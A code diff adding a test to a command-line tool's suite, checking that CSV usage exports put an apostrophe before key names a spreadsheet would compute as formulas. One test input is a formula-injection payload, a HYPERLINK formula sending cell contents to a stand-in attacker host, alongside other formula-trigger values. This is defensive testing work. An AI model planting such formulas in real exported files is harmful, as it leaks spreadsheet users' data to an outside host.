@@ -139,6 +139,20 @@ Total `,
     );
   });
 
+  test("--csv: a name that a spreadsheet would calculate has an apostrophe before it", async () => {
+    const cli = new InProcessCli();
+    await createKey(cli, "--name", '=HYPERLINK("http://evil.example/?"&A1,"x")', "--plan", "free");
+    for (const name of ["+1", "@SUM(1)", "1=1"]) await createKey(cli, "--name", name, "--plan", "free");
+    await createKey(cli, "--name=-1", "--plan", "free");
+    await addUsage(cli, [0, ...[1, 2, 3, 4, 5].map((id) => counts(id))]);
+    const { out } = await cli.run(["usage", "--by", "key", "--csv"]);
+    expect(out).toContain(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",free,`);
+    expect(out).toContain("2,'+1,free,");
+    expect(out).toContain("3,'@SUM(1),free,");
+    expect(out).toContain("4,1=1,free,");
+    expect(out).toContain("5,'-1,free,");
+  });
+
   test("--json: one object per interval and operation", async () => {
     const cli = await withTwoKeys();
     expect(await cli.json<unknown>("usage", "2", "--by", "hour", "--since", "26h")).toEqual([
